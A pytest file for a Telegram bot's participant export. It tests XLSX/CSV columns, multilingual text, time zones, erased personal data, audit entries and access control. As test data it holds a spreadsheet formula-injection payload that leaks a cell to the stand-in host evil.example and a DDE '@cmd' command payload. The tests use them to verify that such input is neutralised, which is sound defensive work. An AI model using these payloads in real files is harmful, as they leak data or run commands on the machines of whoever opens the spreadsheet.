"""/export of everyone: XLSX and CSV files with the right columns, intact Cyrillic and Chinese,
formulas kept as text (an apostrophe in CSV only), erased people left blank; the audit entry;
access. The other purposes and the new columns: tests/test_export_purpose.py."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from aiogram.methods import AnswerCallbackQuery, SendDocument
from aiogram.types import BufferedInputFile
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from bot.i18n import LANGUAGES, I18n
from bot.services.reports.export import COLUMNS
from bot.services.reports.files import (
    MAX_SHEET_NAME,
    ExportFormat,
    Table,
    column_widths,
    looks_like_formula,
    neutralise,
    sheet_name,
    to_xlsx,
)
from db.models import AuditEntry
from tests.flows import register
from tests.harness import ORGANIZER_ID, BotHarness, FakeUser
from tests.test_admin_stats import TWO_EVENTS, add_registration

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Нажмите")'
REGISTERED_AT_MSK = datetime(2025, 8, 20, 12, 0)  # the harness clock, 09:00 UTC
COLUMN = {column.header_key: index for index, column in enumerate(COLUMNS)}


async def add_participants(harness: BotHarness) -> None:
    """Two through the real form (ru, zh; each also gets a calendar file as a document), a
    formula for a name, an erased person."""
    await register(harness.user(1, "ru"), phone="+7 900 123-45-67")
    await register(harness.user(2, "zh-hans"), "zh", name="张伟", email="zhangwei@163.com")
    await add_registration(harness, 3, full_name=FORMULA, organization="@cmd|' /C calc'!A0")
    await add_registration(
        harness,
        None,
        status="cancelled",
        full_name=None,
        country=None,
        city=None,
        organization=None,
        email=None,
        role="veteran",
        created_at=datetime(2025, 8, 19, 21, 30, tzinfo=UTC),
    )


EVERYONE = {"ru": "Все регистрации", "zh": "全部报名"}


async def export(harness: BotHarness, organizer: FakeUser, button: str) -> SendDocument:
    """Everyone's file, in the format whose button says `button`."""
    await organizer.send("/export")
    await organizer.click(
        EVERYONE["zh" if (organizer.tg.language_code or "").startswith("zh") else "ru"]
    )
    await organizer.click(button)
    [document] = documents(harness, organizer.id)
    return document


def documents(harness: BotHarness, chat_id: int) -> list[SendDocument]:
    return [
        s.method
        for s in harness.session.sent
        if isinstance(s.method, SendDocument) and int(s.method.chat_id) == chat_id
    ]


def file_bytes(document: SendDocument) -> bytes:
    assert isinstance(document.document, BufferedInputFile)
    return document.document.data


def headers(harness: BotHarness, lang: str) -> list[str]:
    t = harness.i18n(lang)
    return [t(column.header_key) for column in COLUMNS]


def sheet_rows(sheet: Worksheet) -> list[list[object]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


async def audit(harness: BotHarness) -> list[AuditEntry]:
    async with harness.session_factory() as session:
        return list((await session.scalars(select(AuditEntry))).all())


# --- XLSX ------------------------------------------------------------------------------------


async def test_xlsx(harness: BotHarness) -> None:
    await add_participants(harness)
    organizer = harness.user(ORGANIZER_ID, "ru")
    document = await export(harness, organizer, "XLSX")
    assert isinstance(document.document, BufferedInputFile)
    assert document.document.filename == "victory-2025-everyone-2025-08-20-1200.xlsx"
    assert document.caption and "все регистрации. Регистраций в файле: 4." in document.caption

    workbook = load_workbook(io.BytesIO(file_bytes(document)))
    # The sheets are named in the organizer's language.
    assert workbook.sheetnames == ["Участники", "Классы", "Ученики", "Отзывы"]
    sheet = workbook["Участники"]
    header, *rows = sheet_rows(sheet)
    assert header == headers(harness, "ru")
    assert len(rows) == 4
    ru_row, zh_row, formula_row, erased_row = rows

    name = COLUMN["export-col-full-name"]
    assert ru_row[name] == "Иванов Иван Иванович"
    # The Chinese participant tapped 俄罗斯: stored as "RU", named in the organizer's language.
    assert zh_row[name] == "张伟" and zh_row[COLUMN["export-col-country"]] == "Россия"
    assert zh_row[COLUMN["export-col-language"]] == "китайский"
    assert ru_row[COLUMN["export-col-role"]] == "Педагог"
    assert ru_row[COLUMN["export-col-telegram-id"]] == 1
    assert ru_row[COLUMN["export-col-registered-at"]] == REGISTERED_AT_MSK
    # Exactly as typed: no apostrophe in XLSX (it is CSV's way of saying "text").
    assert ru_row[COLUMN["export-col-phone"]] == "+79001234567"
    assert ru_row[COLUMN["export-col-status"]] == "активна"

    # Text that a spreadsheet would run stays text, as typed.
    assert formula_row[name] == FORMULA
    assert formula_row[COLUMN["export-col-organization"]] == "@cmd|' /C calc'!A0"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=4, column=name + 1).quotePrefix  # Excel's own "text" mark

    assert_erased(erased_row)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:AB5"  # 28 columns (the venue's too), 4 registrations
    assert sheet.column_dimensions["C"].width >= len("Иванов Иван Иванович")


def assert_erased(row: list[object]) -> None:
    personal = [COLUMN[key] for key in COLUMN if COLUMNS[COLUMN[key]].personal]
    assert len(personal) == 10
    assert [row[i] for i in personal] == [None] * len(personal)
    assert row[COLUMN["export-col-role"]] == "Ветеран"  # the anonymous part stays
    assert row[COLUMN["export-col-status"]] == "данные удалены по просьбе участника"
    assert row[COLUMN["export-col-registered-at"]] == datetime(2025, 8, 20, 0, 30)


async def test_xlsx_in_chinese(harness: BotHarness) -> None:
    await add_participants(harness)
    organizer = harness.user(ORGANIZER_ID, "zh-hans")
    document = await export(harness, organizer, "XLSX")
    assert document.caption and "共4条报名记录" in document.caption
    workbook = load_workbook(io.BytesIO(file_bytes(document)))
    assert workbook.sheetnames == ["参会者", "班级", "学生", "反馈"]
    header, ru_row, *_ = sheet_rows(workbook["参会者"])
    assert header == headers(harness, "zh")
    assert "姓名" in header
    assert ru_row[COLUMN["export-col-role"]] == "教师"
    assert ru_row[COLUMN["export-col-wants-to-speak"]] == "否"


# --- CSV -------------------------------------------------------------------------------------


async def test_csv(harness: BotHarness) -> None:
    await add_participants(harness)
    organizer = harness.user(ORGANIZER_ID, "ru")
    document = await export(harness, organizer, "CSV «,»")
    assert isinstance(document.document, BufferedInputFile)
    assert document.document.filename == "victory-2025-everyone-2025-08-20-1200-comma.csv"
    data = file_bytes(document)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert header == headers(harness, "ru")
    assert len(rows) == 4
    name = COLUMN["export-col-full-name"]
    assert [row[name] for row in rows] == ["Иванов Иван Иванович", "张伟", "'" + FORMULA, ""]
    assert rows[0][COLUMN["export-col-registered-at"]] == "2025-08-20 12:00"
    assert rows[0][COLUMN["export-col-phone"]] == "'+79001234567"
    assert rows[3][COLUMN["export-col-telegram-id"]] == ""


async def test_the_two_csv_variants_have_different_names(harness: BotHarness) -> None:
    """Both may be downloaded into one folder: the second must not overwrite the first."""
    await add_participants(harness)
    organizer = harness.user(ORGANIZER_ID, "ru")
    comma = await export(harness, organizer, "CSV «,»")
    await organizer.click("CSV «;»")  # the format buttons stay: the other variant as well
    semicolon = documents(harness, organizer.id)[-1]
    assert isinstance(comma.document, BufferedInputFile)
    assert isinstance(semicolon.document, BufferedInputFile)
    assert comma.document.filename == "victory-2025-everyone-2025-08-20-1200-comma.csv"
    assert semicolon.document.filename == "victory-2025-everyone-2025-08-20-1200-excel-ru.csv"


async def test_a_chinese_organizer_reads_beijing_time_in_the_file(harness: BotHarness) -> None:
    await add_participants(harness)
    document = await export(harness, harness.user(ORGANIZER_ID, "zh-hans"), "XLSX")
    assert isinstance(document.document, BufferedInputFile)
    # The time in the name is Beijing time too (12:00 in Moscow).
    assert document.document.filename == "victory-2025-everyone-2025-08-20-1700.xlsx"
    header, first, *_ = sheet_rows(load_workbook(io.BytesIO(file_bytes(document))).worksheets[0])
    assert header[COLUMN["export-col-registered-at"]] == "报名时间（北京时间）"
    assert first[COLUMN["export-col-registered-at"]] == REGISTERED_AT_MSK + timedelta(hours=5)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_every_sheet_name_is_one_excel_accepts(lang: str) -> None:
    t = I18n()(lang)
    for table in ("participants", "classes", "students", "feedback"):
        title = t(f"export-sheet-{table}")
        assert 0 < len(title) <= MAX_SHEET_NAME and not set(title) & set("[]:*?/\\")
        assert sheet_name(Table([], [], table, title), set()) == title


def test_a_sheet_name_is_made_acceptable_and_unique() -> None:
    taken: set[str] = set()
    long = "Очень длинное название листа: участники [2025]?"
    first = sheet_name(Table([], [], "x", long), taken)
    assert len(first) <= MAX_SHEET_NAME and not set(first) & set("[]:*?/\\")
    second = sheet_name(Table([], [], "x", long), taken)
    assert second != first and second.endswith(" (2)") and len(second) <= MAX_SHEET_NAME
    assert sheet_name(Table([], [], "feedback", "*?/"), taken) == "feedback"
    # And the workbook opens with them.
    tables = [Table(["A"], [["1"]], "x", long), Table(["A"], [["2"]], "x", long)]
    assert len(load_workbook(io.BytesIO(to_xlsx(*tables))).sheetnames) == 2


def test_neutralisation() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert looks_like_formula(f"{start}1+1")
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for safe in ("Иванов", "张伟", "a=b", " =1", "'quoted", ""):
        assert not looks_like_formula(safe)
        assert neutralise(safe) == safe


def test_chinese_characters_count_double_for_widths() -> None:
    table = Table(headers=["A", "B"], rows=[["张伟张伟张伟张伟张伟", "abcdefghij"]], name="x")
    assert column_widths(table) == [22, 12]


# --- the dialogue ----------------------------------------------------------------------------


async def test_export_is_audited(harness: BotHarness) -> None:
    await add_participants(harness)
    organizer = harness.user(ORGANIZER_ID, "ru")
    await export(harness, organizer, "CSV «;»")
    [entry] = await audit(harness)
    assert (entry.actor_id, entry.action, entry.event_id) == (ORGANIZER_ID, "export", 1)
    assert entry.details == {"purpose": "everyone", "format": "csv-ru", "rows": 4, "classes": 0}


@pytest.mark.parametrize("events", [TWO_EVENTS])
async def test_from_the_menu_with_several_events(harness: BotHarness) -> None:
    await add_registration(harness, 1, slug="memory-2026", full_name="Сидорова Анна")
    organizer = harness.user(ORGANIZER_ID, "ru")
    await organizer.send("/admin")
    await organizer.click("Выгрузка")
    assert "Выберите мероприятие" in organizer.last()
    await organizer.click("memory-2026")
    assert "Выгрузка: <b>Конференция «memory-2026»</b>" in organizer.last()
    await organizer.click("Все регистрации, включая отменённые — 1")
    await organizer.click("XLSX")
    [document] = documents(harness, ORGANIZER_ID)
    sheet = load_workbook(io.BytesIO(file_bytes(document))).worksheets[0]
    [_, row] = sheet_rows(sheet)
    assert row[COLUMN["export-col-full-name"]] == "Сидорова Анна"
    assert [(a.action, a.event_id) for a in await audit(harness)] == [("export", 2)]


async def test_an_empty_event_gives_a_file_with_the_header_only(harness: BotHarness) -> None:
    organizer = harness.user(ORGANIZER_ID, "ru")
    document = await export(harness, organizer, "XLSX")
    sheet = load_workbook(io.BytesIO(file_bytes(document))).worksheets[0]
    assert sheet_rows(sheet) == [headers(harness, "ru")]


@pytest.mark.parametrize(
    "data", ["aexp:victory-2025:everyone:pdf", "aexp:no-such-event:everyone:xlsx"]
)
async def test_forged_format_buttons(harness: BotHarness, data: str) -> None:
    organizer = harness.user(ORGANIZER_ID, "ru")
    replies = await organizer.press(data)
    [answer] = [r.method for r in replies]
    assert isinstance(answer, AnswerCallbackQuery)
    assert answer.text == harness.i18n("ru")("err-stale-button")
    assert await audit(harness) == []


# --- access ----------------------------------------------------------------------------------


async def test_export_does_not_exist_for_participants(harness: BotHarness) -> None:
    await add_participants(harness)
    user = harness.user(1)
    replies = await user.send("/export")
    assert [r.method.text for r in replies] == [harness.i18n("ru")("unknown-command")]
    assert user.last().startswith("Такой команды нет")


@pytest.mark.parametrize(
    "data", ["am:export", "ae:export:victory-2025", "aexp:victory-2025:everyone:xlsx"]
)
async def test_export_buttons_are_refused_to_participants(harness: BotHarness, data: str) -> None:
    await add_participants(harness)
    user = harness.user(1)
    replies = await user.press(data)
    [answer] = [r.method for r in replies]
    assert isinstance(answer, AnswerCallbackQuery) and answer.show_alert
    assert answer.text == harness.i18n("ru")("admin-only")
    assert await audit(harness) == []


def test_every_column_has_a_header_in_both_languages() -> None:
    from bot.i18n import I18n

    for t in I18n().all():
        assert all(t.has(column.header_key) for column in COLUMNS)
        assert all(t.has(f"export-btn-{fmt.value}") for fmt in ExportFormat)


# --- e-mail ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lang", "expected"),
    [
        (
            "ru",
            [
                # confirmed, bounced, goes by
                [datetime(2025, 8, 10, 13, 0), None, "Telegram и e-mail"],
                [
                    datetime(2025, 8, 10, 13, 0),
                    "2025-08-11 13:00 (МСК): 550 5.1.1 mailbox unavailable",
                    "Telegram и e-mail",
                ],
                ["Нет", None, "только Telegram"],
                [None, None, "только e-mail"],
            ],
        ),
        (
            "zh",
            [
                # A Chinese organizer reads Beijing time.
                [datetime(2025, 8, 10, 18, 0), None, "Telegram 和电子邮件"],
                [
                    datetime(2025, 8, 10, 18, 0),
                    "2025-08-11 18:00（北京时间）：550 5.1.1 mailbox unavailable",
                    "Telegram 和电子邮件",
                ],
                ["否", None, "仅 Telegram"],
                [None, None, "仅电子邮件"],
            ],
        ),
    ],
)
async def test_email_columns(harness: BotHarness, lang: str, expected: list[list[object]]) -> None:
    confirmed = datetime(2025, 8, 10, 10, 0, tzinfo=UTC)  # 13:00 in Moscow
    await add_registration(harness, 1, email_confirmed_at=confirmed)
    await add_registration(
        harness,
        2,
        email_confirmed_at=confirmed,
        email_bounced_at=confirmed + timedelta(days=1),
        email_error="550 5.1.1 mailbox unavailable",
    )
    await add_registration(harness, 3, deliver_via="telegram")  # not confirmed
    await add_registration(harness, 4, email=None, deliver_via="email")
    document = await export(harness, harness.user(ORGANIZER_ID, lang), "XLSX")
    sheet = load_workbook(io.BytesIO(file_bytes(document))).worksheets[0]
    header, *rows = sheet_rows(sheet)
    keys = ["export-col-email-confirmed", "export-col-email-bounced", "export-col-deliver-via"]
    assert [header[COLUMN[k]] for k in keys] == [harness.i18n(lang)(k) for k in keys]
    assert [[row[COLUMN[k]] for k in keys] for row in rows] == expected
